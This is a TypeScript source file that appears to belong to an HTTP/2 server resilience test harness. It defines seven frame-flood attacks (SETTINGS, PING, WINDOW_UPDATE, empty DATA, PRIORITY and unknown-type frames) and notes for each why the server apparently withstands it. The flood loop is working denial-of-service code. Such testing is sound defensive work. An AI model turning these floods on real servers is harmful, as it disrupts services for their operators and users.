import type { Attacker } from '../../attacker/attacker.ts';
import { callHeaders } from '../../wire/hpack.ts';
import { keepHttp2 } from '../../wire/http2-connection.ts';
import {
  dataFrame,
  Flag,
  FrameType,
  frame,
  headersFrame,
  windowUpdateFrame,
} from '../../wire/http2-frame.ts';
import type { Attack } from '../attack.ts';

/** Sends frames of a few bytes, each of which costs the server some work or a response. */
interface Flood {
  readonly name: string;
  readonly does: string;
  readonly heldBy: string;
  /** The frame that is repeated, once the call in `stream` is open. */
  readonly frame: (stream: number) => Buffer;
  /** True when the attacker reads the server's responses. */
  readonly reads: boolean;
}

const connections = 4;
const framesPerWrite = 500;
const acknowledgements = 'HTTP/2 ends a connection with 1,000 responses that wait to be read';
const noWork = 'each frame is a few bytes to read, and nothing is kept';

const floods: readonly Flood[] = [
  {
    name: 'settings-flood',
    does: 'SETTINGS without end, responses unread',
    heldBy: acknowledgements,
    frame: () => frame(FrameType.settings, Flag.none, 0),
    reads: false,
  },
  {
    name: 'ping-flood',
    does: 'PING without end, responses unread',
    heldBy: acknowledgements,
    frame: () => frame(FrameType.ping, Flag.none, 0, Buffer.alloc(8)),
    reads: false,
  },
  {
    name: 'ping-flood-read',
    does: 'PING without end, responses read',
    heldBy: 'a connection is read as fast as its responses are',
    frame: () => frame(FrameType.ping, Flag.none, 0, Buffer.alloc(8)),
    reads: true,
  },
  {
    name: 'window-update-flood',
    does: 'WINDOW_UPDATE of one byte for a call, without end',
    heldBy: noWork,
    frame: (stream) => windowUpdateFrame(stream, 1),
    reads: true,
  },
  {
    name: 'empty-data-flood',
    does: 'DATA of no bytes for a call, without end',
    heldBy: noWork,
    frame: (stream) => dataFrame(stream, Buffer.alloc(0)),
    reads: true,
  },
  {
    name: 'priority-flood',
    does: 'PRIORITY for ever other streams',
    heldBy: noWork,
    frame: (stream) => frame(FrameType.priority, Flag.none, stream, Buffer.from([0, 0, 0, 0, 16])),
    reads: true,
  },
  {
    name: 'unknown-frame-flood',
    does: 'frames of a type that does not exist, of 16 KB, without end',
    heldBy: 'they are read and forgotten',
    frame: () => frame(0xbe, Flag.none, 0, Buffer.alloc(16_000)),
    reads: true,
  },
];

async function drown(attacker: Attacker, flood: Flood): Promise<void> {
  const options = { times: attacker.share(connections), reads: flood.reads };
  await keepHttp2(attacker, options, async (connection) => {
    const stream = connection.nextStream();
    await connection.write(headersFrame(stream, callHeaders('/MessageService/Converse')));
    const batch = Buffer.concat(
      Array.from({ length: framesPerWrite }, (_, i) =>
        flood.frame(flood.name === 'priority-flood' ? stream + 2 * i + 2 : stream),
      ),
    );
    while (connection.isOpen && !attacker.isOver) {
      await connection.write(batch);
      attacker.count('frames', framesPerWrite);
    }
    connection.reset();
  });
}

/** Attacks by frames of HTTP/2 that ask for nothing. */
export const frameFloods: readonly Attack[] = floods.map((flood) => ({
  name: flood.name,
  family: 'http2',
  does: flood.does,
  heldBy: flood.heldBy,
  run: (attacker) => drown(attacker, flood),
}));
